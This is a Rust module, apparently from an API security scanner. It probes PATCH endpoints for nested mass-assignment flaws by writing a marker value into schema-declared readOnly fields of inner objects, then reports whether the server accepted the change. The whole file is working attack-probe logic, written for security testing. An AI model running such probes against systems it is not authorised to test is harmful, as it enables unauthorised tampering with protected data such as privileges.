//! A privilege hidden in an inner object.

use http::Method;
use serde_json::{Value, json};

use super::Probing;
use crate::client::{ClientError, Probe};
use crate::report::Outcome;
use crate::surface::Body;

attack!("mass-nested", MassAssignment, Code, "The outer fields are checked; what about the object inside?", run);

async fn run(p: Probing<'_>) -> Result<Outcome, ClientError> {
    let mut last = None;
    for endpoint in p.surface.plain(&Method::PATCH) {
        let Body::Json(properties) = &endpoint.body else { continue };
        for (outer, schema) in properties {
            let inner = schema.get("properties").and_then(Value::as_object).into_iter().flatten();
            for (name, _) in inner.filter(|(_, s)| s.get("readOnly") == Some(&Value::Bool(true))) {
                let body = json!({ outer.as_str(): { name.as_str(): 424242 } });
                let (answer, exchange) = p.send(&p.mine(Probe::json(Method::PATCH, endpoint.path.clone(), &body))).await?;
                let taken = answer.json().and_then(|o| o.get(outer)?.get(name).cloned()) == Some(json!(424242));
                if answer.status.is_success() && taken {
                    return Ok(Outcome::exploited(format!("{} took {outer}.{name}", endpoint.path), vec![exchange]));
                }
                last = Some(exchange);
            }
        }
    }
    Ok(match last {
        Some(exchange) => Outcome::blocked("the inner field was not taken", vec![exchange]),
        None => Outcome::not_applicable("no inner object has fields of its own"),
    })
}
